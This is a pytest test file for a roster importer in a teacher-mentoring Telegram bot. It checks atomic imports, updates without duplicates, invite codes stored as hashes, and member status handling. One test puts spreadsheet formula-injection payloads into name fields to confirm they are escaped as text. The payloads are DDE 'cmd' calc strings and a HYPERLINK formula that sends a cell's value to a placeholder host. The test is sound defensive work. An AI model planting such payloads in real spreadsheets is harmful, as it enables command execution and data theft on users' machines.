"""Importing rosters: all-or-nothing, idempotent, updating without duplicates, codes stored hashed."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import openpyxl
import pytest
from sqlalchemy import func, select, update

from core.clock import FrozenClock
from roster.handouts import handout_csv, handout_xlsx
from roster.invites import Outcome, hash_code, redeem, reissue_codes
from store.models import Base, Cohort, InviteCode, Person, Role
from roster.importer import import_file
from roster.report import RosterError

NOW = datetime(2026, 1, 5, 1, 0, tzinfo=timezone.utc)
CLOCK = FrozenClock(NOW)
BOT = "PendampingBot"


async def snapshot(db) -> list[list[tuple]]:
    """Every column of every people, invite_codes and cohorts row."""
    async with db.session() as s:
        return [
            [tuple(r) for r in (await s.execute(select(table).order_by(table.c.id))).all()]
            for table in (Person.__table__, InviteCode.__table__, Cohort.__table__)
        ]


async def import_bytes(db, data: bytes):
    async with db.session() as s:
        return await import_file(s, data, CLOCK)


async def people_by_id(db) -> dict[str, Person]:
    async with db.session() as s:
        return {p.external_id: p for p in await s.scalars(select(Person))}


def edit_csv(data: bytes, changes: dict[str, dict[str, str]], extra: list[list[str]] = ()) -> bytes:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    for row in rows:
        row.update(changes.get(row["id"], {}))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    csv.writer(out).writerows(extra)
    return out.getvalue().encode()


async def test_import_creates_people_cohort_mentors_and_codes(db, examples, texts):
    result = await import_bytes(db, (examples / "roster.csv").read_bytes())
    assert (result.created, result.updated, result.unchanged, result.cohorts_created) == (13, 0, 0, 1)
    assert len(result.issued) == 13 and result.had_code == result.joined == 0
    assert "Baru: 13" in result.report(texts)

    people = await people_by_id(db)
    assert people["CGP01"].mentor_id == people["PP01"].id
    assert people["CGP05"].mentor_id == people["PP02"].id
    assert people["KS01"].mentor_id == people["FSP01"].id
    assert people["CGP05"].timezone == "Asia/Makassar" and people["CGP05"].district == "Kota Makassar"
    assert people["K001"].role == Role.koordinator and people["PP01"].mentor_id is None
    assert {p.cohort_id for p in people.values()} == {people["CGP01"].cohort_id}

    issued = {person.external_id: code for person, code in result.issued}
    async with db.session() as s:
        joined = await redeem(s, issued["CGP03"], 4242, 4242, CLOCK)
    assert joined.outcome == Outcome.joined and joined.person.external_id == "CGP03"


async def test_handout_lists_codes_and_links(db, examples):
    result = await import_bytes(db, (examples / "roster.csv").read_bytes())
    rows = list(csv.reader(io.StringIO(handout_csv(result.issued, BOT).decode("utf-8-sig"))))
    assert rows[0] == ["id", "nama", "peran", "kode", "tautan"]
    assert rows[4][:3] == ["CGP01", "Dewi Lestari", "cgp"]
    assert rows[4][4] == f"https://t.me/{BOT}?start={rows[4][3]}"
    assert len(rows) == 14 and len({r[3] for r in rows[1:]}) == 13
    assert handout_csv(result.issued, BOT).startswith("\ufeff".encode())
    sheet = openpyxl.load_workbook(io.BytesIO(handout_xlsx(result.issued, BOT))).worksheets[0]
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == rows


async def test_handout_keeps_formula_like_names_as_text(db, examples):
    names = {"CGP01": "=cmd|' /C calc'!A0", "CGP02": '=HYPERLINK("http://contoh.invalid/?x="&D3,"Klik")',
             "CGP03": "@SUM(1+1)*cmd|' /C calc'!A0", "CGP04": "-2+3+cmd|' /C calc'!A0"}
    data = edit_csv((examples / "roster.csv").read_bytes(), {key: {"nama": name} for key, name in names.items()})
    result = await import_bytes(db, data)
    sheet = openpyxl.load_workbook(io.BytesIO(handout_xlsx(result.issued, BOT))).worksheets[0]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for key, name in names.items():
        assert (cells[key].value, cells[key].data_type) == (name, "s")
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    rows = {row[0]: row for row in csv.reader(io.StringIO(handout_csv(result.issued, BOT).decode("utf-8-sig")))}
    assert {key: rows[key][1] for key in names} == {key: f"'{name}" for key, name in names.items()}
    assert rows["CGP05"][1] == "Nurhayati Daeng"


async def test_codes_are_stored_only_as_hashes(db, examples):
    result = await import_bytes(db, (examples / "roster.csv").read_bytes())
    codes = [code for _, code in result.issued]
    async with db.session() as s:
        hashes = set(await s.scalars(select(InviteCode.code_hash)))
        dump = repr([(await s.execute(select(table))).all() for table in Base.metadata.sorted_tables])
    assert hashes == {hash_code(c) for c in codes}
    assert not [c for c in codes if c in dump]


async def test_reimport_changes_nothing(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    async with db.session() as s:
        first_code = await s.scalar(select(InviteCode).order_by(InviteCode.id))
        await s.execute(update(Person).where(Person.id == first_code.person_id).values(tg_user_id=1, tg_chat_id=1))
        await s.execute(update(InviteCode).where(InviteCode.id == first_code.id).values(used_at=NOW))
    before = await snapshot(db)
    again = await import_bytes(db, data)
    from_xlsx = await import_bytes(db, (examples / "roster.xlsx").read_bytes())
    assert await snapshot(db) == before
    for result in (again, from_xlsx):
        assert (result.created, result.updated, result.unchanged, result.cohorts_created) == (0, 0, 13, 0)
        assert (result.issued, result.had_code, result.joined) == ([], 12, 1)


async def test_edited_file_updates_without_duplicates(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    codes_before = (await snapshot(db))[1]
    edited = edit_csv(data, {
        "CGP04": {"nama": "Yusuf Hidayat, S.Pd.", "mentor": "PP02", "zona waktu": "WITA", "sekolah": "SD Negeri 3 Makassar"},
        "PP02": {"angkatan": "12"},
        "CGP08": {"peran": "Calon Guru Penggerak"},  # the same role, written as a label
    }, extra=[["CGP09", "Sinta Dewi", "cgp", "12", "SD Negeri 3 Makassar", "Kota Makassar", "PP02", "WITA"]])
    result = await import_bytes(db, edited)
    assert (result.created, result.updated, result.unchanged, result.cohorts_created) == (1, 2, 11, 1)
    assert [p.external_id for p, _ in result.issued] == ["CGP09"] and result.had_code == 13

    people = await people_by_id(db)
    assert len(people) == 14
    yusuf = people["CGP04"]
    assert (yusuf.name, yusuf.mentor_id, yusuf.timezone, yusuf.school) == (
        "Yusuf Hidayat, S.Pd.", people["PP02"].id, "Asia/Makassar", "SD Negeri 3 Makassar")
    async with db.session() as s:
        cohorts = {c.id: c.code for c in await s.scalars(select(Cohort))}
    assert cohorts[people["PP02"].cohort_id] == "12" and cohorts[people["PP01"].cohort_id] == "11"
    assert (await snapshot(db))[1][:13] == codes_before


async def test_columns_left_out_keep_stored_values(db, examples):
    await import_bytes(db, (examples / "roster.csv").read_bytes())
    slim = b"id,nama,peran,angkatan,mentor\nPP01,Bambang Sutrisno,pp,11,\nCGP01,Dewi Lestari,cgp,11,PP01\n"
    result = await import_bytes(db, slim)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    dewi = (await people_by_id(db))["CGP01"]
    assert (dewi.school, dewi.district, dewi.timezone) == ("SMP Negeri 1 Soreang", "Kabupaten Bandung", "Asia/Jakarta")


async def test_the_province_column_is_stored_for_regional_days_off(db, examples):
    await import_bytes(db, (examples / "roster.csv").read_bytes())
    with_province = b"id,nama,peran,angkatan,mentor,Provinsi\nPP01,Bambang Sutrisno,pp,11,,Jawa  Barat \n"
    assert (await import_bytes(db, with_province)).updated == 1
    assert (await people_by_id(db))["PP01"].province == "Jawa Barat"
    slim = b"id,nama,peran,angkatan,mentor\nPP01,Bambang Sutrisno,pp,11,\n"
    assert (await import_bytes(db, slim)).unchanged == 1
    assert (await people_by_id(db))["PP01"].province == "Jawa Barat"


async def test_rejected_file_writes_nothing(db, examples, texts):
    await import_bytes(db, (examples / "roster.csv").read_bytes())
    before = await snapshot(db)
    with pytest.raises(RosterError) as caught:
        await import_bytes(db, (examples / "roster_with_errors.csv").read_bytes())
    assert [(p.row, p.column, p.code) for p in caught.value.problems] == [
        (3, "mentor", "mentor_not_allowed"),
        (5, "id", "duplicate_id"),
        (6, "nama", "required"),
        (7, "peran", "unknown_role"),
        (8, "mentor", "mentor_unknown"),
        (9, "mentor", "mentor_wrong_role"),
        (10, "zona waktu", "bad_timezone"),
        (11, "angkatan", "bad_cohort"),
        (12, "mentor", "mentor_wrong_role"),
    ]
    assert 'Baris 8, kolom mentor: mentor "PP09" tidak ada' in caught.value.report(texts)
    assert await snapshot(db) == before


async def test_one_bad_row_among_good_ones_imports_nothing(db, examples):
    bad = (examples / "roster.csv").read_bytes() + b"CGP99,Tono,cgp,11,,,PP77,WIB\n"
    with pytest.raises(RosterError) as caught:
        await import_bytes(db, bad)
    assert [(p.row, p.code) for p in caught.value.problems] == [(15, "mentor_unknown")]
    async with db.session() as s:
        counts = [await s.scalar(select(func.count()).select_from(t)) for t in (Person, InviteCode, Cohort)]
    assert counts == [0, 0, 0]


async def test_mentors_may_come_from_the_database(db, examples):
    await import_bytes(db, (examples / "roster.csv").read_bytes())
    later = (b"id,nama,peran,angkatan,mentor\nCGP20,Lia,cgp,11,PP02\nG1,Gita,guru,11,FSP01\n")
    async with db.session() as s:
        result = await import_file(s, later, CLOCK)
    assert result.created == 2
    people = await people_by_id(db)
    assert people["CGP20"].mentor_id == people["PP02"].id and people["G1"].mentor_id == people["FSP01"].id

    wrong = (b"id,nama,peran,angkatan,mentor\nCGP21,Ira,cgp,11,CGP01\nCGP22,Ida,cgp,11,ZZZ\n")
    with pytest.raises(RosterError) as caught:
        async with db.session() as s:
            await import_file(s, wrong, CLOCK)
    assert [(p.row, p.code, p.values.get("mentor_role")) for p in caught.value.problems] == [
        (2, "mentor_wrong_role", "cgp"), (3, "mentor_unknown", None)]


async def test_a_mentor_keeps_their_role_while_mentees_outside_the_file_depend_on_it(db, examples):
    await import_bytes(db, (examples / "roster.csv").read_bytes())
    demote = b"id,nama,peran,angkatan,mentor\nPP01,Bambang Sutrisno,cgp,11,PP02\n"
    with pytest.raises(RosterError) as caught:
        await import_bytes(db, demote)
    assert {(p.row, p.column, p.code) for p in caught.value.problems} == {(2, "peran", "still_mentor")}
    assert len(caught.value.problems) == 4  # one per mentee CGP01…CGP04


async def test_people_without_a_live_code_get_a_new_one(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    async with db.session() as s:
        pp01 = await s.scalar(select(Person).where(Person.external_id == "PP01"))
        await s.execute(update(InviteCode).where(InviteCode.person_id == pp01.id).values(revoked_at=NOW))
    result = await import_bytes(db, data)
    assert [p.external_id for p, _ in result.issued] == ["PP01"] and result.had_code == 12


def with_status(data: bytes, changes: dict[str, dict[str, str]], extra: list[list[str]] = ()) -> bytes:
    return edit_csv(data.replace(b"zona waktu\n", b"zona waktu,status\n", 1), changes, extra)


async def test_status_keluar_marks_left_and_aktif_brings_back(db, examples):
    data = (examples / "roster.csv").read_bytes()
    code_of_cgp02 = {p.external_id: c for p, c in (await import_bytes(db, data)).issued}["CGP02"]
    left = with_status(data, {"CGP02": {"status": "Keluar"}},
                       extra=[["CGP09", "Sinta Dewi", "cgp", "11", "", "", "PP01", "WIB", "mengundurkan diri"]])
    result = await import_bytes(db, left)
    people = await people_by_id(db)
    assert people["CGP02"].left_at == people["CGP09"].left_at == NOW and not people["CGP01"].left
    assert not people["CGP02"].blocked and not people["CGP02"].participating
    assert result.updated == 1 and result.issued == []  # no invite code for someone who already left
    async with db.session() as s:
        redeemed = await redeem(s, code_of_cgp02, 5002, 5002, CLOCK)  # nor the old one: they are told they left
        assert (redeemed.outcome, redeemed.person.external_id) == (Outcome.left, "CGP02")
        reissued = {i.person.external_id for i in await reissue_codes(s, clock=CLOCK)}
    assert "CGP02" not in reissued and "CGP01" in reissued

    later = FrozenClock(NOW.replace(day=9))
    async with db.session() as s:  # still keluar in the next import: when they left stays
        assert (await import_file(s, left, later)).unchanged == 14
    assert (await people_by_id(db))["CGP02"].left_at == NOW

    back = edit_csv(left, {"CGP02": {"status": "aktif"}})
    await import_bytes(db, back)
    assert (await people_by_id(db))["CGP02"].participating


async def test_a_file_without_status_leaves_people_who_left_out_and_gives_them_no_code(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    await import_bytes(db, with_status(data, {"CGP02": {"status": "keluar"}}))
    result = await import_bytes(db, data)  # the first file again, without the status column
    cgp02 = (await people_by_id(db))["CGP02"]
    assert cgp02.left and result.issued == [] and result.unchanged == 13
    async with db.session() as s:
        live = select(func.count()).select_from(InviteCode).where(InviteCode.person_id == cgp02.id, InviteCode.revoked_at.is_(None))
        assert await s.scalar(live) == 0


async def test_status_aktif_does_not_undo_a_block(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    async with db.session() as s:
        await s.execute(update(Person).where(Person.external_id == "CGP03").values(blocked_at=NOW))
    await import_bytes(db, with_status(data, {"CGP03": {"status": "aktif"}}))
    cgp03 = (await people_by_id(db))["CGP03"]
    assert cgp03.blocked_at == NOW and not cgp03.left


async def test_status_keluar_keeps_a_block_and_aktif_only_ends_the_leaving(db, examples):
    data = (examples / "roster.csv").read_bytes()
    await import_bytes(db, data)
    async with db.session() as s:
        await s.execute(update(Person).where(Person.external_id == "CGP03").values(blocked_at=NOW))
    await import_bytes(db, with_status(data, {"CGP03": {"status": "keluar"}}))
    cgp03 = (await people_by_id(db))["CGP03"]
    assert (cgp03.left, cgp03.blocked) == (True, True)
    await import_bytes(db, with_status(data, {}))
    cgp03 = (await people_by_id(db))["CGP03"]
    assert (cgp03.left, cgp03.blocked) == (False, True)


async def test_unknown_status_is_reported_by_row(db, examples, texts):
    data = (examples / "roster.csv").read_bytes()
    bad = with_status(data, {"CGP01": {"status": "cuti"}})
    with pytest.raises(RosterError) as raised:
        await import_bytes(db, bad)
    [problem] = raised.value.problems
    assert problem.message(texts).startswith('Baris 5, kolom status: status "cuti" tidak dikenal')
